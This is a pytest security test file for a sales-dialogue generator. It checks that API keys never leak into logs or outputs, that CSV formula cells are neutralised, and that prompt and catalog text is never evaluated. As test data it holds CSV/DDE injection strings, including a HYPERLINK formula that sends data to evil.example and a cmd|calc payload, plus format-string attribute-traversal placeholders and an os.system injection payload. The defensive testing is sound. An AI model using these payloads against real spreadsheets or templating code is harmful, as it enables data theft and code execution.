"""Security (issue 5): API keys never reach an output; CSV formulas are neutralised; data files are never code."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from faults_support import ROOT, fake_run_args, record_all_requests, rules_weights, run_cli

from salesgen.core.dialogue import CUSTOMER, SALESPERSON, Dialogue, Outcome, Persona, Product, Turn
from salesgen.core.errors import InputError
from salesgen.core.formats import read_csv, write_csv
from salesgen.scenarios.sales.prompts import DEFAULT_PROMPTS, PROMPTS_DIR, load_prompts

SENTINEL = "sk-sentinel-5b2e9d0c4a7f16e3"


def files_containing(root: Path, needle: str) -> list[str]:
    hits = []
    for p in sorted(Path(root).rglob("*")):
        if p.is_file() and needle.encode() in p.read_bytes():
            hits.append(str(p))
    return hits


# ---------------------------------------------------------------- API keys


def test_the_api_key_reaches_no_file_log_line_or_report(fault_server, tmp_path):
    srv = fault_server(api_key=SENTINEL)  # the server insists on the key: proof the run really used it
    out = tmp_path / "run"
    args = fake_run_args(srv.url, out, rules_weights(tmp_path), num_dialogues=2, max_attempts=2)
    args.remove("--no-report")  # the report and metrics are outputs too
    # The most talkative logging there is: ours at DEBUG and the openai SDK's own debug log.
    proc = run_cli(args, env={"OPENAI_API_KEY": SENTINEL, "SALESGEN_LOG": "DEBUG", "OPENAI_LOG": "debug"},
                   timeout=300)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert srv.stats["requests"] > 0 and srv.stats.get("401", 0) == 0
    assert "DEBUG" in proc.stderr  # the logs were really on
    assert (out / "report.html").is_file() and (out / "metrics.json").is_file()
    assert SENTINEL not in proc.stdout
    assert SENTINEL not in proc.stderr
    assert files_containing(out, SENTINEL) == []
    # The manifest names where the key came from, never the key.
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["model"]["api_key_env"] == "OPENAI_API_KEY"


def test_a_rejected_key_is_named_by_its_variable_not_its_value(fault_server, tmp_path):
    srv = fault_server(api_key="sk-the-right-one")
    out = tmp_path / "fresh" / "run"
    proc = run_cli(fake_run_args(srv.url, out, rules_weights(tmp_path), api_key_env="MY_SALES_KEY"),
                   env={"MY_SALES_KEY": SENTINEL, "SALESGEN_LOG": "DEBUG"})
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "error: " in proc.stderr and "MY_SALES_KEY" in proc.stderr and "401" in proc.stderr
    assert SENTINEL not in proc.stdout + proc.stderr
    assert not out.parent.exists()


# ---------------------------------------------------------------- CSV formulas

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "=cmd"]


def _dialogue(i: int, salesperson: str, customer: str) -> Dialogue:
    persona = Persona(id="p", name="Ann", personality="polite", category="car", budget=30000)
    product = Product(id="x", name="=IMPORTXML(\"http://evil.example\",\"//a\")", category="car", price=20000)
    return Dialogue(id=f"d{i}", index=i, persona=persona, product=product, outcome=Outcome(bought=False),
                    turns=[Turn(SALESPERSON, salesperson, "2025-01-01T00:00:00Z"),
                           Turn(CUSTOMER, customer, "2025-01-01T00:00:01Z")])


def test_csv_cells_starting_a_formula_are_neutralised(tmp_path):
    dialogues = [_dialogue(i, text, DANGEROUS[-1 - i]) for i, text in enumerate(DANGEROUS)]
    path = tmp_path / "out.csv"
    write_csv(path, dialogues)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(body) == len(DANGEROUS)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, row)
        s, u, product = row[header.index("Salesman")], row[header.index("User")], row[header.index("product")]
        assert s.startswith("'") and u.startswith("'") and product.startswith("'=")
    # Plain text that merely contains those characters is left alone.
    write_csv(path, [_dialogue(0, "Price is 20,000 - a fair deal = good value", "Mail me @ home")])
    with open(path, newline="", encoding="utf-8") as fh:
        row = list(csv.reader(fh))[1]
    assert row[0] == "Price is 20,000 - a fair deal = good value" and row[1] == "Mail me @ home"


def test_neutralised_csv_reads_back_as_the_original_text(tmp_path):
    dialogues = [_dialogue(i, text, "fine") for i, text in enumerate(DANGEROUS)]
    path = tmp_path / "out.csv"
    write_csv(path, dialogues)
    back = read_csv(path)
    assert [d.turns[0].text for d in back] == [t.strip() for t in DANGEROUS]


# ---------------------------------------------------------------- data files are data


def test_str_format_would_follow_attributes_which_is_why_prompts_are_checked():
    assert "{x.__class__}".format_map({"x": 1}) == "<class 'int'>"


@pytest.mark.parametrize("placeholder", [
    "{seller_name.__class__}",
    "{seller_name.__class__.__init__.__globals__}",
    "{examples[0]}",
    "{catalog_facts.__doc__}",
    "{min_words:{max_words.__class__}}",
    "{0}",
    "{}",
    "{store!r}",
    "{__import__}",
])
def test_prompt_files_with_non_plain_placeholders_are_refused(tmp_path, placeholder):
    variant = tmp_path / "evil.toml"
    variant.write_text(f'extends = "{DEFAULT_PROMPTS}"\nname = "evil"\n[salesperson]\n'
                       f'system = """You are {{seller_name}}. {placeholder}"""\n', encoding="utf-8")
    with pytest.raises(InputError) as err:
        load_prompts(variant)
    assert str(variant) in str(err.value) and "[salesperson] system" in str(err.value)


def test_shipped_prompt_files_pass_the_check():
    for path in sorted(PROMPTS_DIR.glob("*.toml")):
        load_prompts(path)


def test_a_prompt_with_an_attribute_placeholder_stops_the_cli(tmp_path):
    variant = tmp_path / "evil.toml"
    variant.write_text(f'extends = "{DEFAULT_PROMPTS}"\nname = "evil"\n[decision]\n'
                       'prompt = "{name.__class__.__mro__}"\n', encoding="utf-8")
    proc = run_cli(["--prompts", str(variant), "--out", str(tmp_path / "run")])
    assert proc.returncode == 2
    assert proc.stderr.startswith("error: ") and len(proc.stderr.splitlines()) == 1
    assert str(variant) in proc.stderr and "{name.__class__.__mro__}" in proc.stderr
    assert not (tmp_path / "run").exists()


def run_with_catalog(fault_server, tmp_path, edit, **flags) -> list[dict]:
    """A one-dialogue run on a catalog changed by `edit(product)`; the request bodies the server saw."""
    catalog = json.loads((ROOT / "salesgen" / "data" / "catalog.json").read_text())
    for p in catalog["products"]:
        edit(p)
    path = tmp_path / "catalog.json"
    path.write_text(json.dumps(catalog), encoding="utf-8")
    srv = fault_server()
    record_all_requests(srv)
    proc = run_cli(fake_run_args(srv.url, tmp_path / "run", rules_weights(tmp_path), catalog=path, num_dialogues=1,
                                 max_attempts=1, **flags))
    assert proc.returncode in (0, 1), proc.stderr[-2000:]
    return list(srv.recent)


def test_catalog_text_that_looks_like_code_or_placeholders_is_sent_verbatim(fault_server, tmp_path):
    marker = tmp_path / "PWNED"
    payload = (f"{{seller_name.__class__}} {{catalog_facts}} {{{{x}}}} __import__('os').system('touch {marker}') "
               "${7*7} {{7*7}}")

    def edit(p):
        p["policies"]["note"] = payload
        p["features"] = [*p["features"], "{__import__}"]

    bodies = run_with_catalog(fault_server, tmp_path, edit, max_exchanges=1, policy="free")
    systems = [m["content"] for body in bodies for m in body["messages"] if m["role"] == "system"]
    seller = [s for s in systems if "Note: " in s]
    assert seller, "the salesperson prompt did not carry the catalog facts"
    for text in seller:
        assert payload in text  # exactly as written: nothing substituted, unescaped or evaluated
        assert "{__import__}" in text
        assert "<class" not in text
    assert not marker.exists()


def test_planned_briefs_carry_catalog_text_verbatim(fault_server, tmp_path):
    """Under the planned policy catalog facts reach the model inside the move's brief: as values, never templates."""
    marker = tmp_path / "PWNED"
    payload = f"{{seller.__class__}} {{facts}} {{{{x}}}} __import__('os').system('touch {marker}') ${{7*7}}"
    bodies = run_with_catalog(fault_server, tmp_path, lambda p: p.update(features=[payload]), max_exchanges=2,
                              max_retries=0)
    asked = [m["content"] for body in bodies for m in body["messages"] if m["role"] == "user"]
    assert any(payload in text for text in asked), "no brief carried the catalog feature"
    assert not any("<class" in text for text in asked)
    assert not marker.exists()
